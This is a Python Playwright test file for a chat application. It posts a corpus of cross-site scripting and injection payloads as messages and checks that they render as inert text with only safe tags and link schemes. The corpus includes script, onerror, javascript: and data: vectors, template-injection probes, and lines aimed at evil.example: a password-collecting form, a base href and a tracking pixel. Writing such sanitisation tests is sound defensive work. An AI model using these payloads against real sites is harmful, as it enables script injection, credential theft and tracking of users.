"""What people write shows as text, whatever it is."""

import pytest
from playwright.sync_api import Browser, expect

from tests.browser.conftest import Newcomer
from tests.browser.person import Person

ALLOWED = {"P", "SPAN", "BDI", "A", "B", "STRONG", "I", "EM", "S", "DEL", "CODE", "PRE", "BR"}
ALLOWED |= {"BLOCKQUOTE", "UL", "OL", "LI", "DIV"}
CORPUS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>a</a>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>",
    "<template><b>x</b></template>",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    "'\"><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox)",
    "[click](https://ok.example/'onmouseover='alert(1))",
    "![image](https://evil.example/pixel.png)",
    "<https://ok.example/<script>alert(1)</script>>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "**<img src=x onerror=alert(1)>**",
    "> <script>alert(1)</script>",
    "- <svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7-7 }} {% debug %} ${7-7} #{7-7} <%= 7-7 %>",
    "__proto__ constructor prototype",
    "\u202eright to left override\u202c",
    "\u2066isolate without an end",
    "zero\u200bwidth\u200djoined\ufeffand\u2060glued",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "שלום עולם مرحبا بالعالم <b>x</b>",
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏽",
    "W" * 2_000,
    "https://example.org/" + "x" * 1_500,
    "\x01\x02\x07\x1b[31mcontrol",
]


def elements(person: Person) -> set[str]:
    found: list[str] = person.log.locator("[data-seq] .message__text").evaluate_all(
        "texts => texts.flatMap(text => [...text.querySelectorAll(':not(.code__copy, .code__copy *)')]"
        ".map(e => e.tagName))"
    )
    return set(found)


def hrefs(person: Person) -> list[str]:
    found: list[str] = person.log.locator(".message__text a").evaluate_all(
        "links => links.map(link => link.href)"
    )
    return found


@pytest.fixture
def told(sign_up: Newcomer) -> Person:
    """Bob, on a phone, who was told the whole corpus by Alice while he looked on."""
    bob = sign_up("bob", viewport={"width": 390, "height": 844})
    alice = sign_up("alice")
    for text in CORPUS:
        alice.say(text)
    alice.say(f"{alice.username} is done")
    expect(bob.message(f"{alice.username} is done")).to_have_count(1)
    return bob


def test_a_hostile_corpus_shows_as_text_live_and_after_a_reload(told: Person) -> None:
    for state in ("live", "after a reload"):
        assert elements(told) <= ALLOWED, state
        assert all(href.startswith(("https://", "http://", "mailto:")) for href in hrefs(told))
        assert told.overflow() <= 0, state
        for text in ("<script>alert(1)</script>", "{{ 7-7 }} {% debug %} ${7-7}"):
            told.look_for(text)
        told.page.reload()
        expect(told.messages.last).to_contain_text("is done")


def test_it_shows_as_text_without_scripts_too(told: Person, browser: Browser) -> None:
    state = told.page.context.storage_state()
    context = browser.new_context(storage_state=state, java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{told.site}/rooms/general/")
    expect(page.get_by_role("log")).to_contain_text("<style>*{display:none}</style>")
    hostile = page.locator(".message__text :is(script, img, svg, iframe, style, form, input)")
    expect(hostile).to_have_count(0)
    context.close()
